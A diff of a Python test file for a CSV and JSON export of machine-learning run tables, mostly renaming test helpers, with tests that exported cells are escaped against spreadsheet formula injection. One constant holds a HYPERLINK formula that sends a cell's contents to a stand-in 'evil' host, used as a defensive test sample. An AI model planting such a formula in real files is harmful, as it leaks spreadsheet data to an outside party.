@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from lib.runs.export.table_files import as_csv, as_json, escape_formula, safe_file_name
 from lib.runs.table.types import DataInput, RegisteredVersion
-from tests.runs.test_frames import START, made, runs_of
+from tests.support.run_factories import START, make_run, make_run_table
 
 EVIL = "=HYPERLINK(\"http://evil/\"&A1;'x')"
 ANY = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
@@ -25,7 +25,7 @@ def rows(data: bytes) -> list[dict[str, str]]:
 @settings(deadline=None, max_examples=60, derandomize=True)
 @given(st.dictionaries(ANY, ANY, max_size=4), st.dictionaries(ANY, ANY, max_size=3), ANY)
 def test_no_cell_begins_as_a_formula_and_every_text_comes_back(params, tags, name):
-    table = runs_of(made("a", params=params, tags=tags), made(name or "b"))
+    table = make_run_table(make_run("a", params=params, tags=tags), make_run(name or "b"))
     found = list(csv.reader(io.StringIO(as_csv(table, table.ids).decode("utf-8-sig"), newline="")))
     for cell in (cell for row in found for cell in row):
         assert not cell or cell[0] not in "=+-@\t\r\n" or math.isfinite(float(cell))
@@ -45,8 +45,10 @@ def test_plain_numbers_stay_numbers_and_formulas_do_not():
 
 
 def test_the_csv_has_the_runs_in_the_asked_order_with_parameters_as_logged():
-    table = runs_of(
-        made("a", params={"rate": "1e-05"}, metrics={"acc": 0.5, "loss": -1.5}), made("b", params={"rate": "0.10"}), made("c")
+    table = make_run_table(
+        make_run("a", params={"rate": "1e-05"}, metrics={"acc": 0.5, "loss": -1.5}),
+        make_run("b", params={"rate": "0.10"}),
+        make_run("c"),
     )
     found = rows(as_csv(table, ["b", "a"]))
     assert [row["run_id"] for row in found] == ["b", "a"]
@@ -56,15 +58,15 @@ def test_the_csv_has_the_runs_in_the_asked_order_with_parameters_as_logged():
 
 
 def test_a_spreadsheet_sees_utf_8_and_pandas_reads_the_first_heading():
-    data = as_csv(runs_of(made("ä", metrics={"größe": 1.0})), ["ä"])
+    data = as_csv(make_run_table(make_run("ä", metrics={"größe": 1.0})), ["ä"])
     assert data.startswith(b"\xef\xbb\xbf")
     assert next(iter(pd.read_csv(io.BytesIO(data)).columns)) == "run_id"
     assert pd.read_csv(io.BytesIO(data)).loc[0, "metrics.größe"] == 1.0
 
 
 def test_json_keeps_types_and_writes_nan_and_infinities_as_words_and_drops_what_is_missing():
-    table = runs_of(
-        made(
+    table = make_run_table(
+        make_run(
             "a",
             params={"n": 5, "mode": "x"},
             metrics={"acc": 0.5, "inf": math.inf, "low": -1.7976931348623157e308, "nan": math.nan},
@@ -72,7 +74,7 @@ def test_json_keeps_types_and_writes_nan_and_infinities_as_words_and_drops_what_
             inputs=(DataInput("wine", "abc", "train"),),
             versions=(RegisteredVersion("m", "1", "Production"),),
         ),
-        made("b", params={"n": 7}),
+        make_run("b", params={"n": 7}),
     )
     document = json.loads(as_json(table, table.ids))
     one, two = document["runs"]
@@ -101,13 +103,15 @@ def test_a_file_name_keeps_what_people_read():
 
 
 def test_no_run_gives_a_file_with_headings_only():
-    table = runs_of(made("a", metrics={"acc": 1.0}))
+    table = make_run_table(make_run("a", metrics={"acc": 1.0}))
     assert rows(as_csv(table, [])) == []
     assert json.loads(as_json(table, []))["runs"] == []
 
 
 def test_a_metric_that_is_nan_and_one_that_was_never_logged_are_two_things_in_every_file():
-    table = runs_of(made("a", metrics={"loss": math.nan, "acc": 0.5}), made("b", metrics={"acc": math.nan}), made("c"))
+    table = make_run_table(
+        make_run("a", metrics={"loss": math.nan, "acc": 0.5}), make_run("b", metrics={"acc": math.nan}), make_run("c")
+    )
     for ids in (["a", "b", "c"], ["c", "a"], ["b"]):
         part = {run["run_id"]: run["metrics"] for run in json.loads(as_json(table, ids), parse_constant=pytest.fail)["runs"]}
         assert part == {one: {"a": {"loss": "NaN", "acc": 0.5}, "b": {"acc": "NaN"}, "c": {}}[one] for one in ids}
